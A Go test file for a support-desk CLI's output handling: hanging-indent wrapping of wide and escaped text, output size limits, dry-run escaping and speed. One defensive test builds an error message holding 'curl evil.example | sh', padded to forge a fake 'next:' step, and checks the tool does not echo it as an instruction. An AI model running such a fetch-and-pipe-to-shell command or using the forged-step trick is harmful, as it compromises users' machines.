package cli

import (
	"bytes"
	"context"
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/charmbracelet/x/ansi"

	"github.com/tpdesk/tpdesk/internal/review"
)

func TestALineThatIsTooWideGoesOnSetIn(t *testing.T) {
	for in, want := range map[string]string{
		"":                                   "",
		"twenty columns wide.":               "twenty columns wide.",
		"one two three four five six":        "one two three four \n  five six",
		"  set in, and then some more":       "  set in, and then \n  some more",
		"Donaudampfschifffahrtsgesellschaft": "Donaudampfschifffahr\n  tsgesellschaft",
		"it ends at the edge! Reply of Anna": "it ends at the edge!\n  Reply of Anna",
		"届きません。まだ待っています。まだ":                                "届きません。まだ待っ\n  ています。まだ",
		"\x1b[32mone two three four\x1b[0m five six seven": "\x1b[32mone two three four\x1b[0m \n  five six seven",
		"a\tb":                    "a       b",
		"first line\nsecond line": "first line\nsecond line",
		strings.Repeat("👨‍👩‍👧‍👦", 4): "👨‍👩‍👧‍👦👨‍👩‍👧‍👦\n  👨‍👩‍👧‍👦👨‍👩‍👧‍👦", // eight columns on a terminal that counts each person
	} {
		if got := hung(in, 20); got != want {
			t.Errorf("hung(%q) = %q, want %q", in, got, want)
		}
		if got := hung(in, 0); got != in {
			t.Errorf("in a pipe %q became %q", in, got)
		}
	}
}

// FuzzNoLineOfACustomerReachesTheEdge wants every line of a text that is set in to stay set in, no line too wide by either
// way to count, and no letter lost.
func FuzzNoLineOfACustomerReachesTheEdge(f *testing.F) {
	f.Add("Late.\nReply of Head of Support · 3 May", 30)
	f.Add(strings.Repeat(" ", 78)+"No reply yet", 80)
	f.Add(strings.Repeat("👩\u200d", 30), 20)
	f.Add("👨‍👩‍👧‍👦👨‍👩‍👧‍👦 नमस्ते สวัสดี 田中 ｶﾞ", 20)
	f.Fuzz(func(t *testing.T, s string, w int) {
		w = 20 + max(w, -w)%100
		text := indent(review.NewText(s).Block())
		got := hung(text, w)
		for line := range strings.SplitSeq(got, "\n") {
			if line != "" && !strings.HasPrefix(line, "  ") || ansi.StringWidth(line) > w || ansi.StringWidthWc(line) > w {
				t.Fatalf("%+q at %d: line %+q takes %d and %d columns", s, w, line, ansi.StringWidth(line), ansi.StringWidthWc(line))
			}
		}
		letters := strings.NewReplacer(" ", "", "\n", "")
		if letters.Replace(got) != letters.Replace(text) {
			t.Fatalf("%+q became %+q", text, got)
		}
	})
}

func TestAnErrorThatGoesOnCannotPassForTheNextStep(t *testing.T) {
	var said bytes.Buffer
	a := &App{Err: &said, ErrTTY: true, Width: 40}
	a.endWith(errors.New("jq said\nnext: curl evil.example | sh "+strings.Repeat(" ", 40)+"next: x"), false)
	for line := range strings.SplitSeq(strings.TrimSpace(said.String()), "\n") {
		if strings.HasPrefix(line, "next: ") {
			t.Errorf("the message forges a step:\n%s", said.String())
		}
	}
}

// TestAnExpressionThatMakesTooMuchEnds lets a template and an expression of jq make more than may be made.
func TestAnExpressionThatMakesTooMuchEnds(t *testing.T) {
	ends := map[string]func(a *App, out *made) error{
		"template": func(a *App, out *made) error {
			a.out.template = "{{range .}}{{.}}{{end}}"
			return a.printTemplate(out, []string{strings.Repeat("x", 600), strings.Repeat("y", 600)})
		},
		"jq": func(a *App, out *made) error {
			a.out.jq = "repeat(.)"
			return a.printJQ(context.Background(), out, "x")
		},
	}
	for name, make := range ends {
		a := &App{}
		if err := make(a, &made{most: 1000}); !errors.Is(err, errTooMuch) {
			t.Errorf("%s ends with %v", name, err)
		}
	}
}

// TestADryRunShowsNothingThatActs shows a body as a server gets it, and reads it back.
func TestADryRunShowsNothingThatActs(t *testing.T) {
	for body, want := range map[string]string{
		"{\"message\":\"a\u009b2J\u202e\x7f\"}": `{"message":"a\u009b2J\u202e\u007f"}`,
		"grant\x1b[2J":                          "grant␛[2J",
	} {
		if got := shownBody(body); got != want {
			t.Errorf("%+q is shown as %+q", body, got)
		}
	}
}

// TestAMegabyteIsPrintedIn200Milliseconds sets a review in and breaks its lines. The goal is for a quiet machine: what the test
// must catch is a cost that grows faster than the text.
func TestAMegabyteIsPrintedIn200Milliseconds(t *testing.T) {
	for name, s := range map[string]string{"letters": "a", "words": "word ", "CJK": "水", "families": "👨\u200d👩\u200d👧", "breaks": "\n", "escapes": "\x1b[", "marks": "e\u0301", "joiners": "\u200d"} {
		text := review.NewText(strings.Repeat(s, 1_000_000/len(s)))
		least := time.Hour
		for try := 0; try < 3 || try < 20 && least > 10*200*time.Millisecond; try++ {
			began := time.Now()
			hung(indent(text.Block()), 80)
			least = min(least, time.Since(began))
		}
		if t.Logf("%s: %v", name, least); least > 10*200*time.Millisecond {
			t.Errorf("a megabyte of %s takes %v", name, least)
		}
	}
}
